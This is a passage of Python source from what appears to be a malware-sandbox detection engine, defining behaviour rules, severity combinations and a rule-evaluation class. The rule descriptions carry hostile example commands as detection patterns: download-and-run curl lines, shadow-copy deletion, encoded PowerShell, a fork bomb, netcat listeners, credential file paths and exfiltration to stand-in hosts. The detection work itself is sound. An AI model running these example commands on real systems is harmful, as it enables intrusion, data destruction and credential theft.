    name = _s(ev.get("name") if typ in ("dns", "dns_lookup") else ev.get("sni") if typ == "tls"
              else _s(ev.get("host")).split(":", 1)[0]).lower().rstrip(".")
    return f"{name} ({typ})" if name in IP_LOOKUP_HOSTS else None


def _resolved(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    r = _remote_ip(ev)
    if r is None or r[1] in (0, 53):
        return None
    ip = ipaddress.ip_address(r[0])
    name = _s(ev.get("name")) or st.dns.get(r[0], "")
    if not name and ip not in FAKE_DNS_POOL:
        return None
    return f"{name or '(name resolved by the simulated DNS)'} -> {r[0]}:{r[1]}"


def _dns(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    name = _s(ev.get("name"))
    if not name or name.lower().rstrip(".") in ctx.ignore_names:
        return None
    return f"{name} ({_s(ev.get('qtype')) or 'lookup'})"


def _http(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    ua = _s(ev.get("ua"))
    return f"{ev.get('method')} {ev.get('url')}" + (f" UA={ua[:80]}" if ua else "")


def _script_host_web(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    """A JScript/VBScript/WSF file run by Windows Script Host fetching from the internet: the downloader
    stage of malspam.  Nothing a mail recipient is sent as a .js/.vbs needs the web to do its job."""
    if ctx.platform != "windows" or ctx.role != "script":
        return None
    return _http(ev, ctx, st)


def _tls(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    return f"TLS to {ev.get('sni') or '(no SNI)'} at {ev.get('dst')}"


# ------------------------------------------------------------------ the table


def _t(*types: str) -> frozenset[str]:
    return frozenset(types)


PERSIST, C2, C2_RAW, CREDS, EXFIL, SELF_COPY, SHELL, INJECT, SPY, EVASION, RANSOM, EXEC, DOWNLOAD = (
    "persistence", "c2", "c2_raw", "credentials", "exfiltration", "self_copy", "shell", "injection", "spying",
    "evasion", "ransomware", "execution", "download")


def _f(*families: str) -> frozenset[str]:
    return frozenset(families)


RULES: tuple[Rule, ...] = (
    Rule("persistence_autostart", 8, _t("file"),
         _path_rule((".config/autostart",), ("/etc/xdg/autostart",)),
         "writes an XDG autostart entry", "~/.config/autostart/update.desktop", _f(PERSIST)),
    Rule("persistence_cron", 8, _t("file", "exec"), _cron,
         "installs a cron job (crontab command or cron files) or an at job", "crontab /tmp/c; /etc/cron.d/x",
         _f(PERSIST)),
    Rule("persistence_systemd", 8, _t("file", "exec"), _systemd,
         "writes a systemd unit / init script or enables a unit", "~/.config/systemd/user/x.service", _f(PERSIST)),
    Rule("persistence_shell_rc", 7, _t("file"),
         _path_rule((), ("/etc/profile", "/etc/profile.d", "/etc/bash.bashrc", "/etc/zsh"),
                    (".bashrc", ".bash_profile", ".bash_login", ".profile", ".zshrc", ".zprofile", ".bash_logout",
                     ".xprofile", ".xsessionrc", ".xinitrc")),
         "modifies a shell start-up file", "append to ~/.bashrc", _f(PERSIST)),
    Rule("persistence_ld_preload", 8, _t("file"), _path_rule((), ("/etc/ld.so.preload",)),
         "writes /etc/ld.so.preload (library injection into every program)", "/etc/ld.so.preload", _f(PERSIST)),
    Rule("persistence_registry_run", 8, _t("reg_set"), _registry_run,
         "sets a Windows autorun registry value (Run/RunOnce, Winlogon Shell/Userinit, IFEO Debugger, AppInit)",
         r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run\updater", _f(PERSIST)),
    Rule("persistence_startup_folder", 8, _t("file"), _startup_folder,
         "drops a file in a Windows Startup folder", r"...\Start Menu\Programs\Startup\x.lnk", _f(PERSIST)),
    Rule("persistence_scheduled_task", 8, _t("exec", "file", "exec_request"), _scheduled_task,
         "creates a Windows scheduled task (schtasks /create, at, Register-ScheduledTask, a file in the Tasks "
         "folder)", "schtasks /create /sc onlogon /tn upd /tr C:\\x.exe", _f(PERSIST)),
    Rule("persistence_service", 8, _t("exec", "reg_set", "api", "exec_request"), _service,
         "installs a Windows service (sc create/config binPath=, CreateService, a service's ImagePath or "
         "ServiceDll in the registry)", "sc create upd binPath= C:\\x.exe", _f(PERSIST)),
    Rule("ssh_authorized_keys", 9, _t("file"), _authorized_keys,
         "writes an SSH authorized_keys file (remote access backdoor)", "~/.ssh/authorized_keys", _f(PERSIST)),
    Rule("write_outside_workdir", 3, _t("file"), _outside_workdir,
         "creates, changes or deletes files outside its working directory, /tmp and ~/.cache (for Windows "
         "samples: outside %TEMP% and the browser caches)", "~/.local/bin/x, /etc/hosts"),
    Rule("user_file_modified", 4, _t("file"), _user_file_modified,
         "modifies, renames or deletes a user document", "~/Documents/report.docx", _f(RANSOM)),
    Rule("mass_file_modification", 9, _t("file"), _mass_modification,
         f"modifies, renames or deletes {MASS_MODIFICATION_MIN} or more user documents (ransomware pattern)",
         "~/Documents/*.docx -> *.docx.locked", _f(RANSOM)),
    Rule("ransom_note", 7, _t("file"), _ransom_note,
         "writes a ransom note (HOW_TO_DECRYPT.txt, README_RESTORE_FILES.html...) among the user's files",
         "Desktop/HOW_TO_DECRYPT.txt", _f(RANSOM)),
    Rule("shadow_copy_deletion", 9, _t("exec", "exec_request"), _shadow_copies,
         "deletes shadow copies or backups, or disables recovery (vssadmin, wmic shadowcopy, bcdedit, wbadmin)",
         "vssadmin delete shadows /all /quiet", _f(RANSOM)),
    Rule("self_delete", 5, _t("file"), _self_delete, "deletes its own file", "rm $0", _f(EVASION)),
    Rule("credential_access", 6, _t("file", "reg_open"), _credential_access,
         "reads stored credentials: SSH keys, browser logins (Chrome/Edge Login Data, Firefox logins.json/key4.db), "
         "mail profiles (Outlook, Thunderbird), FileZilla, PuTTY/WinSCP sessions, wallets, cloud keys, /etc/shadow",
         "~/.ssh/id_rsa, ...\\Chrome\\User Data\\Default\\Login Data", _f(CREDS)),
    Rule("log_tampering", 4, _t("file", "exec", "exec_request"), _log_tampering,
         "deletes shell history, touches /var/log or clears Windows event logs", "rm ~/.bash_history; wevtutil cl",
         _f(EVASION)),
    Rule("drop_execute", 7, _t("exec"), _drop_execute,
         "executes a file it wrote (or made executable) itself", "write /tmp/.x; chmod +x; exec /tmp/.x", _f(EXEC)),
    Rule("build_execute", 3, _t("exec"), _build_execute,
         "compiles a program and runs it (build and test scripts do; a dropper writes its payload itself)",
         "cc -o /tmp/t t.c; /tmp/t", _f(EXEC)),
    Rule("download_execute", 9, _t("exec"), _download_execute,
         "executes content fetched from the simulated internet (a file written after the download, or the "
         "payload itself)", "curl http://x/p -o /tmp/p; sh /tmp/p", _f(EXEC, DOWNLOAD)),
    Rule("downloads_executable", 6, _t("http", "ftp"), _downloads_code,
         "asks the internet for an executable or a script by its name (.exe, .dll, .ps1, .vbs, .sh...); "
         "fakenet answers with a harmless stand-in of that type", "GET http://cdn.example/upd.exe", _f(DOWNLOAD)),
    Rule("script_host_downloads_executable", 8, _t("http", "ftp"), _script_host_downloads,
         "a Windows script or shortcut (JScript, VBScript, HTA, batch, LNK) downloads an executable or a script",
         "wscript invoice.js -> GET http://x/dogovr2208.exe", _f(DOWNLOAD)),
    Rule("lolbin_download", 8, _t("exec", "exec_request"), _lolbin_download,
         "starts a Windows tool to download code (PowerShell WebClient/Invoke-WebRequest, certutil -urlcache, "
         "bitsadmin /transfer, mshta/regsvr32/msiexec/rundll32 with a URL)",
         "powershell -w hidden -c (New-Object Net.WebClient).DownloadFile('http://x/a.exe',...)", _f(DOWNLOAD)),
    Rule("powershell_encoded_command", 6, _t("exec", "exec_request"), _encoded_powershell,
         "starts PowerShell with an encoded command (-enc/-EncodedCommand: hides what it runs)",
         "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4A...", _f(EVASION)),
    Rule("self_copy", 6, _t("api", "exec", "file"), _self_copy,
         "copies itself (CopyFile/MoveFile of its own file; cp $0; reading its own file, then writing its name "
         "or into ~/.local/bin, ~/.config, a hidden folder, a system bin folder)", "CopyFile(x.exe, %APPDATA%\\x.exe)",
         _f(SELF_COPY)),
    Rule("self_copy_executed", 8, _t("exec"), _self_copy_executed, "executes a copy of itself",
         "%APPDATA%\\svchost32.exe started", _f(SELF_COPY, EXEC)),
    Rule("fileless_execution", 8, _t("exec"), _fileless,
         "executes from memory (memfd, /proc/self/fd, a deleted file)", "memfd_create + execve(/proc/self/fd/3)",
         _f(EXEC)),
    Rule("shell_spawned", 5, _t("exec"), _shell_spawned,
         "an executable (ELF/PE) starts a shell or script interpreter", "execve(/bin/sh -c ...) from an ELF",
         _f(SHELL)),
    Rule("reverse_shell", 9, _t("exec", "connect"), _reverse_shell,
         "a shell started by (or running in) a process that connected to a raw IP address or a C2 port",
         "connect(203.0.113.5:4444); execve(/bin/sh -i)", _f(SHELL, C2, C2_RAW)),
    Rule("viewer_spawns_shell", 9, _t("exec"), _viewer_spawns_shell,
         "a document viewer (office, PDF, browser, shortcut) starts a shell, interpreter or downloader",
         "soffice.bin -> /bin/sh -c curl ...", _f(SHELL)),
    Rule("privilege_escalation_attempt", 5, _t("exec", "file"), _privilege_escalation,
         "runs sudo/su/pkexec or writes sudoers/passwd", "sudo -n true"),
    Rule("process_injection", 8, _t("inject", "ptrace", "file", "api"), _injection,
         "writes into or starts code in another process (ptrace attach/poke, process_vm_writev, /proc/PID/mem; "
         "WriteProcessMemory, CreateRemoteThread, QueueUserAPC, executable VirtualAllocEx)",
         "VirtualAllocEx(PAGE_EXECUTE_READWRITE) + WriteProcessMemory + CreateRemoteThread", _f(INJECT)),
    Rule("process_hollowing", 9, _t("api"), _hollowing,
         "creates a process suspended, then unmaps or overwrites its image and sets its thread's context",
         "CreateProcess(CREATE_SUSPENDED); NtUnmapViewOfSection; WriteProcessMemory; SetThreadContext",
         _f(INJECT)),
    Rule("keyboard_hook", 7, _t("api"), _keyboard_hook,
         "installs a keyboard hook (SetWindowsHookEx WH_KEYBOARD_LL / WH_KEYBOARD): keylogger",
         "SetWindowsHookExA(WH_KEYBOARD_LL)", _f(SPY)),
    Rule("security_tool_tampering", 7, _t("exec", "exec_request", "reg_set"), _security_tools,
         "ends analysis or security tools by name (pkill strace, taskkill /im procmon.exe, Stop-Process MsMpEng) or "
         "switches Windows' defences off (Set-MpPreference -DisableRealtimeMonitoring, Defender exclusions, sc stop "
         "WinDefend, firewall off, the DisableAntiSpyware policy)", "taskkill /f /im procmon.exe", _f(EVASION)),
    Rule("sandbox_tampering", 5, _t("kill", "ptrace"), _sandbox_tampering,
         "signals or traces the sandbox's pid 1 (its parent, which anchors the monitor) or signals every process "
         "at once (kill(-1))", "kill -9 1; kill -9 -1", _f(EVASION)),
    Rule("memory_exhaustion", 4, _t("oom_kill"), _memory_exhaustion,
         "is killed by the kernel for passing the sandbox's memory limit (2 GiB by default): a memory bomb, or "
         "a sample that hides what it does behind a huge allocation", "allocate and touch 20 GB"),
    Rule("anti_debug", 4, _t("ptrace", "api"), _anti_debug,
         "checks whether it is being debugged (PTRACE_TRACEME, IsDebuggerPresent, CheckRemoteDebuggerPresent, "
         "ThreadHideFromDebugger)", "ptrace(PTRACE_TRACEME)", _f(EVASION)),
    Rule("anti_vm_probe", 4, _t("file", "exec", "reg_open", "reg_query", "api", "exec_request"), _anti_vm,
         "looks for signs of a VM or sandbox (DMI ids, hypervisor files, systemd-detect-virt, dmidecode; VMware/"
         "VirtualBox drivers, registry keys and BIOS strings, sandbox DLLs, wmic bios/computersystem)",
         "read /sys/class/dmi/id/product_name; GetModuleHandle(SbieDll.dll)", _f(EVASION)),
    Rule("cpu_info_probe", 2, _t("file"), _cpuinfo, "reads /proc/cpuinfo (hypervisor flag checks)",
         "read /proc/cpuinfo"),
    Rule("long_sleep", 3, _t("sleep", "api", "exec", "exec_request"), _long_sleep,
         f"sleeps {LONG_SLEEP_S:g} s or longer (sandbox evasion: sleep(), Sleep(), ping -n / timeout /t delays)",
         "sleep(600); Sleep(600000); ping -n 60 127.0.0.1", _f(EVASION)),
    Rule("resource_exhaustion", 7, _t("clone_failed", "fork"), _resource_exhaustion,
         f"creates processes until the limit refuses them ({CLONE_FAILURES_MIN}+ refusals) or keeps "
         f"{CONCURRENT_PROCESSES_MIN}+ alive at once: fork bomb",
         ":(){ :|:& };:"),
    Rule("listens_for_connections", 3, _t("listen"), _listens,
         "listens for connections on a network address (a bind shell or backdoor, or a server run by hand: only "
         "with other behaviour it means much)", "nc -l -p 4444"),
    Rule("listens_loopback", 1, _t("listen"), _listens_loopback,
         "listens for connections from this machine only (loopback)", "127.0.0.1:8000"),
    Rule("library_from_writable_dir", 6, _t("image"), _library_writable,
         "maps executable code from its working directory, /tmp, $HOME or memory (or a native DLL outside "
         "C:\\windows)", "dlopen(/tmp/x.so)", _f(EXEC)),
    Rule("network_raw_ip", 6, _t("connect", "sendto", "tcp"), _raw_ip,
         "connects to an IP address it did not look up in DNS (hard-coded C2)", "203.0.113.10:4444",
         _f(C2, C2_RAW)),
    Rule("c2_port", 6, _t("connect", "tcp"), _c2_port,
         "connects to an IRC port or a port of well-known RATs and backdoors (6660-6669, 6697, 7000, 1337, 31337, "
         "4444, 5552, 1604...)", "203.0.113.7:6667", _f(C2, C2_RAW)),
    Rule("irc_traffic", 7, _t("irc"), _irc,
         "speaks IRC (NICK/USER/JOIN/PRIVMSG): a bot joining its command channel", "NICK bot123; JOIN #cmd",
         _f(C2, C2_RAW)),
    Rule("network_resolved_host", 3, _t("connect", "sendto", "tcp"), _resolved,
         "connects to a host name resolved by the simulated DNS", "evil.example -> 198.18.0.1:443", _f(C2)),
    Rule("dns_query", 1, _t("dns", "dns_lookup"), _dns, "looks up a host name", "updates.example.test (A)"),
    Rule("http_request", 4, _t("http"), _http, "makes an HTTP request (URL in the detail)",
         "GET http://updates.example.test/payload", _f(C2)),
    Rule("script_host_web_request", 7, _t("http"), _script_host_web,
         "a Windows script (JScript, VBScript, WSF, batch) makes an HTTP request: the downloader stage",
         "GET http://cdn.example/invoice.exe from wscript", _f(C2, DOWNLOAD)),
    Rule("tls_connection", 3, _t("tls"), _tls, "starts a TLS connection (SNI in the detail)",
         "TLS to cdn.example at 198.18.0.2:443", _f(C2)),
    Rule("exfil_smtp", 7, _t("smtp"), _exfil_smtp,
         "sends mail or logs in to a mail server itself (stealer or spam bot)",
         "MAIL FROM bot@x; RCPT drop@evil; attachment log.zip", _f(EXFIL, C2)),
    Rule("exfil_ftp_upload", 7, _t("ftp"), _exfil_ftp, "uploads a file over FTP", "STOR loot.zip",
         _f(EXFIL, C2)),
    Rule("http_upload", 5, _t("http"), _http_upload,
         f"uploads data over HTTP (a POST/PUT of {HTTP_UPLOAD_MIN}+ bytes or a multipart file)",
         "POST http://x/gate.php (5000 bytes, files passwords.txt)", _f(EXFIL, C2)),
    Rule("exfil_messaging_api", 7, _t("http", "tls"), _messaging_api,
         "talks to the Telegram bot API, a Discord webhook or a Slack webhook (common stealer exfiltration)",
         "POST https://api.telegram.org/bot<token>/sendDocument", _f(EXFIL, C2)),
    Rule("public_ip_lookup", 4, _t("dns", "dns_lookup", "http", "tls"), _ip_lookup,
         "looks up its public IP address (api.ipify.org, ip-api.com...): bots and stealers report it",
         "GET http://ip-api.com/json", _f(C2)),
)

#: corroborating behaviours (checked whenever a rule fires for the first time); each needs a finding of
#: some family in every group.  The scoring (:func:`mailvm.verdict.score_findings`) takes the highest
#: severity, so a combination's severity is what the behaviours together are worth.
COMBOS: tuple[Combo, ...] = (
    Combo("combo_persistence_c2", 9, (_f(PERSIST), _f(C2)),
          "installs persistence and talks to the internet (C2, downloads, exfiltration)"),
    Combo("combo_credentials_exfil", 9, (_f(CREDS), _f(EXFIL, C2)),
          "reads stored credentials and sends data out (or talks to the internet)"),
    Combo("combo_self_copy_c2", 8, (_f(SELF_COPY), _f(C2)), "copies itself and talks to the internet"),
    Combo("combo_self_copy_persistence", 8, (_f(SELF_COPY), _f(PERSIST)), "copies itself and installs persistence"),
    Combo("combo_shell_c2", 8, (_f(SHELL), _f(C2_RAW)),
          "starts a shell and connects to a raw IP address, an IRC/backdoor port or speaks IRC"),
    Combo("combo_keylogger_exfil", 9, (_f(SPY), _f(EXFIL, C2)), "hooks the keyboard and talks to the internet"),
    Combo("combo_injection_c2", 9, (_f(INJECT), _f(C2)), "injects into another process and talks to the internet"),
    Combo("combo_download_evasion", 7, (_f(DOWNLOAD), _f(EVASION)),
          "downloads code and checks for analysis (debugger, VM, long sleeps) or deletes itself"),
)


#: findings the detonation itself produces (not from behaviour); documented with the rules
ENGINE_FINDINGS: tuple[tuple[str, int, str], ...] = (
    ("timed_out", 0, "the sample was still running at the timeout"),
    ("no_launcher", 0, "nothing in the guest can run or open this file type"),
    ("launch_failed", 0, "the launcher could not start the sample (exec error)"),
    ("agent_error", 0, "the guest agent failed internally; verdict error"),
    ("sandbox_error", 0, "the sandbox could not be set up; verdict error"),
    ("detonation_aborted", 0, "the host asked for the slot back before the end"),
    ("sandbox_leftover", 0, "processes survived the kill at the end (they were killed again)"),
    ("trace_truncated", 0, "the behaviour trace hit its size cap; later events were not analysed"),
    ("not_executed", 0, "the sample did not run (missing runtime, bad format, crash at load, launcher error): "
                        "not analysed dynamically"),
)


class RuleEngine:
    """Feed events one by one; collect one finding per rule id (and per combination)."""

    def __init__(self, ctx: RuleContext, rules: Iterable[Rule] = RULES, combos: Iterable[Combo] = COMBOS) -> None:
        self.ctx = ctx
        self.rules = tuple(rules)
        self.combos = tuple(combos)
        self.by_type: dict[str, list[Rule]] = {}
        for r in self.rules:
            for t in r.types:
                self.by_type.setdefault(t, []).append(r)
        self.state = State()
        self.hits: dict[str, list[str]] = {}
        self.counts: dict[str, int] = {}
        self.order: list[Rule | Combo] = []
        self.families: dict[str, list[str]] = {}  # family -> ids of the rules that fired in it
        self.errors = 0

    def feed(self, ev: dict[str, Any]) -> list[Finding]:
        """Update state with ``ev``, run the rules that read its type; new findings only."""
        if not isinstance(ev, dict):
            return []
        try:
            self.state.update(ev, self.ctx)
        except (TypeError, ValueError, KeyError, AttributeError) as exc:
            self.errors += 1
            log.debug("state update failed on %r: %s", ev.get("type"), exc)
        new: list[Finding] = []
        for rule in self.by_type.get(_s(ev.get("type")), ()):
            try:
                detail = rule.check(ev, self.ctx, self.state)
            except Exception as exc:  # one bad rule or event must not stop the others
                self.errors += 1
                log.warning("rule %s failed: %r", rule.id, exc)
                continue
            if detail is None:
                continue
            if self._hit(rule, detail):
                new.append(Finding(rule.id, rule.severity, detail, SOURCE))
                for fam in rule.families:
                    self.families.setdefault(fam, []).append(rule.id)
                new.extend(self._combos())
        return new

    def _hit(self, rule: Rule | Combo, detail: str) -> bool:
        """Record a match; True when it is the rule's first."""
        first = rule.id not in self.hits
        details = self.hits.setdefault(rule.id, [])
        self.counts[rule.id] = self.counts.get(rule.id, 0) + 1
        if detail not in details and len(details) < MAX_DETAILS:
            details.append(detail)
        if first:
            self.order.append(rule)
        return first

    def _combos(self) -> list[Finding]:
        out = []
        for combo in self.combos:
            if combo.id in self.hits:
                continue
            parts: list[str] = []
            for group in combo.groups:
                ids = sorted({rid for fam in group for rid in self.families.get(fam, ())} - set(parts))
                if not ids:
                    break
                parts.append(ids[0])
            else:
                detail = " + ".join(parts) + ": " + combo.behaviour
                self._hit(combo, detail)
                out.append(Finding(combo.id, combo.severity, detail, SOURCE))
        return out

    def findings(self) -> list[Finding]:
        out = []
        for rule in self.order:
            details = self.hits[rule.id]
            more = self.counts[rule.id] - len(details)
            text = "; ".join(details) + (f" (+{more} more)" if more > 0 else "")
            out.append(Finding(rule.id, rule.severity, text, SOURCE))
        return out


def evaluate(events: Iterable[dict[str, Any]], ctx: RuleContext | None = None) -> list[Finding]:
    """All findings for a list of events (what the engine reports at the end)."""
    engine = RuleEngine(ctx or RuleContext())
    for ev in events:
        engine.feed(ev)
    return engine.findings()
